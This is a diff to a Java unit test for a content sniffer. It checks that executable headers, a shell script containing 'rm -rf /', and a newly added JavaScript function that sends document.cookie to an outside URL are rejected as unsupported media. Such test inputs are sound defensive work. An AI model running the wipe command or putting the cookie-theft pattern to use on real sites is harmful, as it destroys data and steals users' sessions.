@@ -43,7 +43,11 @@ class ContentSnifferTest {
                 ascii("#!/bin/sh\nrm -rf /\n"),
                 bytes(0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0),
                 bytes('M', 'Z', 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0),
-                bytes('P', 'K', 3, 4, 20, 0, 0, 0, 8, 0))) {
+                bytes('P', 'K', 3, 4, 20, 0, 0, 0, 8, 0),
+                bytes(0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0),
+                bytes(0xfe, 0xed, 0xfa, 0xce, 0, 0, 0, 7, 0, 0, 0, 3, 0, 0, 0, 2),
+                ascii("<?xml version=\"1.0\"?><note><to>x</to></note>"),
+                ascii("function steal() { fetch('https://example.org/' + document.cookie); }\n"))) {
             assertThatThrownBy(() -> sniffer.check(content)).isInstanceOf(ApiProblem.class)
                     .satisfies(e -> assertThat(((ApiProblem) e).status().value()).isEqualTo(415))
                     .satisfies(e -> assertThat(((ApiProblem) e).code()).isEqualTo("UNSUPPORTED_MEDIA_TYPE"));
